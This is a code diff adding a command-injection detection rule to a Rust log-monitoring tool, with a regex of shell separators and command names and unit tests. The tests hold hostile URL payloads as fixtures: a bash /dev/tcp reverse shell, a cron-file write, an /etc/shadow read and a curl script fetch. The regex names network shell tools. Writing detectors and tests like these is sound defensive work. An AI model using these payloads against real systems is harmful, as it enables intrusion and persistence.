@@ -8,6 +8,7 @@
 //! | `log.account_change` | a user added or deleted, added to a group, a password changed |
 //! | `log.web_scanning` | ≥ 20 error responses (4xx) for ≥ 10 distinct URLs from one address within `window` |
 //! | `log.web_traversal` | a request whose URL climbs out of the web root (`../`, encoded or not) or names `/etc/passwd` |
+//! | `log.web_injection` | a request whose URL, decoded, chains a shell command: `;`, `|`, `&&`, `$(` or a backtick, then a command name a payload runs (`sh`, `curl`, `cat`, `echo`, `id`…) |
 //! | `log.login_guessing` | ≥ 20 POSTs to one URL from one address within `window` |
 //!
 //! State is per address and per user, in bounded LRU maps (evictions
@@ -75,17 +76,19 @@ pub enum Rule {
     AccountChange,
     WebScanning,
     WebTraversal,
+    WebInjection,
     LoginGuessing,
 }
 
 impl Rule {
-    pub const ALL: [Rule; 7] = [
+    pub const ALL: [Rule; 8] = [
         Rule::SshBruteForce,
         Rule::LoginAfterFailures,
         Rule::PrivilegeEscalation,
         Rule::AccountChange,
         Rule::WebScanning,
         Rule::WebTraversal,
+        Rule::WebInjection,
         Rule::LoginGuessing,
     ];
 
@@ -97,6 +100,7 @@ impl Rule {
             Rule::AccountChange => "account_change",
             Rule::WebScanning => "web_scanning",
             Rule::WebTraversal => "web_traversal",
+            Rule::WebInjection => "web_injection",
             Rule::LoginGuessing => "login_guessing",
         }
     }
@@ -445,6 +449,24 @@ impl Rules {
                     ));
                 }
             }
+            if injects(&http.url) {
+                st.other.push(now, l.text, w, EVIDENCE);
+                if st.other.may_raise(Rule::WebInjection, now, w) {
+                    out.push(finding(
+                        Rule::WebInjection,
+                        Severity::High,
+                        &s,
+                        format!(
+                            "{ip} sent a shell command in {} (answered {})",
+                            shown(&http.url),
+                            http.status
+                        ),
+                        1.0,
+                        1.0,
+                        &st.other,
+                    ));
+                }
+            }
             if (400..500).contains(&http.status) {
                 let e = &mut st.web_errors;
                 e.push(now, l.text, w, t.web_errors * 4);
@@ -536,6 +558,30 @@ fn climbs_out(url: &str) -> bool {
         || u.ends_with("/..")
         || u.contains("/etc/passwd")
         || u.contains("/etc/shadow")
+}
+
+/// A URL percent-decoded (twice: double encoding), `+` as a space.
+fn decoded(url: &str) -> String {
+    let mut u = url.replace('+', " ");
+    for _ in 0..2 {
+        u = percent_encoding::percent_decode_str(&u)
+            .decode_utf8_lossy()
+            .into_owned();
+    }
+    u
+}
+
+static INJECTION: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
+    regex::Regex::new(
+        r"(?i)(?:;|\||&&|\$\(|`)\s*(?:[\w./-]*/)?(?:sh|bash|dash|zsh|ksh|nc|ncat|netcat|socat|curl|wget|python[0-9.]*|perl|ruby|php|cat|echo|id|uname|whoami|chmod|chown|rm|mkdir|touch|find|su|sudo|base64|read|exec|timeout|busybox|telnet|ping|sleep|env|crontab|useradd|passwd)\b",
+    )
+    .expect("a valid pattern")
+});
+
+/// The URL chains a shell command (command injection, as ModSecurity's
+/// core rule set 932 looks for): a separator then a command's name.
+fn injects(url: &str) -> bool {
+    INJECTION.is_match(&decoded(url))
 }
 
 #[cfg(test)]
@@ -682,6 +728,40 @@ mod tests {
             "{f:#?}"
         );
         assert!(f[1].summary.contains("..%2f"), "{}", f[1].summary);
+    }
+
+    #[test]
+    fn shell_commands_in_urls_are_injection_and_ordinary_queries_are_not() {
+        for url in [
+            "/ping?host=localhost%3B%20bash%20-c%20%27exec%203%3C%3E/dev/tcp/127.0.0.1/4444%27",
+            "/ping?host=localhost%3B%20echo%20%27%2A%20root%20/tmp/.x%27%20%3E%20/etc/cron.d/update",
+            "/ping?host=localhost;+read+line+%3C+/etc/shadow",
+            "/cgi-bin/x?q=a%257Ccat%2520/etc/hosts",
+            "/x?cmd=$(/usr/bin/id)",
+            "/x?cmd=%60uname%20-a%60",
+            "/x?a=1&&b=2&&curl+http://x/s.sh",
+        ] {
+            assert!(injects(url), "{url}");
+        }
+        for url in [
+            "/ping?host=host12.example",
+            "/search?q=fish+%26+chips",
+            "/list?sort=name;desc",
+            "/page?name=about.html&lang=en",
+            "/blog/identity-and-access",
+            "/a?x=1&y=2",
+        ] {
+            assert!(!injects(url), "{url}");
+        }
+        let mut r = Rules::new(Thresholds::default());
+        let f = feed(
+            &mut r,
+            &["10.0.0.66 - - [01/Dec/2026:10:00:00 +0000] \"GET /ping?host=x%3Bid HTTP/1.1\" 200 12".to_string()],
+            1_000_000_000_000,
+        );
+        assert_eq!(f.len(), 1, "{f:#?}");
+        assert_eq!(f[0].rule, Rule::WebInjection);
+        assert!(f[0].summary.contains("shell command"), "{}", f[0].summary);
     }
 
     #[test]
